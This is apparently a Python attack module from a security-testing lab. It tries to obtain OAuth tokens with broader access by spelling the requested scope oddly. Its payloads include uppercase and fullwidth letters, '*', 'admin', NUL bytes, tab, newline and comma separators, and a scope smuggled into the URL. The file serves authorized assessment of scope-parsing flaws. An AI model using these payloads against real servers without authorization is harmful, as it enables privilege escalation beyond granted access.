"""Ask for a scope in an odd spelling.

Exploits a server that reads more out of a scope than stands there: it ignores capitals, splits at
a tab, finds a name within a word, or takes a star for all. A guard before it, which lets a program
ask for the data alone, has read something else. Or the answer repeats what is refused.
Source: RFC 6749, section 3.3 Access Token Scope,
https://www.rfc-editor.org/rfc/rfc6749#section-3.3
ASVS: 10.3.2
"""

import secrets
from collections.abc import Iterator

import httpx

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, breakdown, got_in
from attacks.lab.scopes import MORE, SMALL, in_the_url, more_than_small, must_grant_scopes
from attacks.lab.target import Field, NotApplicableError, Person, Target

MARK = secrets.token_hex(8)  # a name that no app has
SPELLINGS: dict[str, Field] = {
    "capitals": MORE.upper(),
    "wide letters": "".join(chr(ord(letter) + 0xFEE0) for letter in MORE),
    "a star": "*",
    "a role": "admin",
    "a blank": " ",
    "a NUL": f"{SMALL} {MORE}\0",
    "the escape of a NUL": f"{SMALL} {MORE}%00",
    "a longer word": f"{SMALL} no-{MORE}",
    "half a word": f"{SMALL} {MORE[:4]}",
    "a list": f'["{SMALL}","{MORE}"]',
    "a name that no app has": f"{SMALL} {MARK}",
    "that name alone": MARK,
    "blanks around it": f"  {SMALL}  ",
    "thousands": f"{MARK} " * 800,
    "two fields": [SMALL, MORE],
    "two fields, the other way round": [MORE, SMALL],
    **{f"{sign!a} for a blank": f"{SMALL}{sign}{MORE}" for sign in "\t\n\v\x85\xa0,;+"},
}


def requests(target: Target, owner: Person) -> Iterator[tuple[str, httpx.Request]]:
    """Log in with each; what stands there names the data or nothing, and nothing else."""
    for spelling, scope in SPELLINGS.items():
        yield spelling, target.login_request(owner.username, owner.password, scope=scope)
    small = target.login_request(owner.username, owner.password, scope=SMALL)
    yield "another one in the address", in_the_url(small, MORE)


@attack()
def run(target: Target) -> Outcome:
    """See what each is given, and whether the answer repeats what was asked for."""
    must_grant_scopes(target)
    owner = target.enrol()
    if more_than_small(target, owner, target.tokens_of(owner, scope=SMALL)):
        raise NotApplicableError("a token for the data may do all here, however it is asked for")
    answers = {}
    for spelling, request in requests(target, owner):
        answer = answers[spelling] = target.http.send(request)
        if MARK in answer.text:
            return got_in(f"{spelling}: the answer repeats it")
        if answer.is_success and isinstance(SPELLINGS.get(spelling), list):
            return got_in(f"{spelling}: one of them counts")
        if answer.is_success and (more := more_than_small(target, owner, answer.json())):
            return got_in(f"{spelling}: {more}")
    return breakdown(answers, f"{len(answers)} spellings: none gets more than it names")
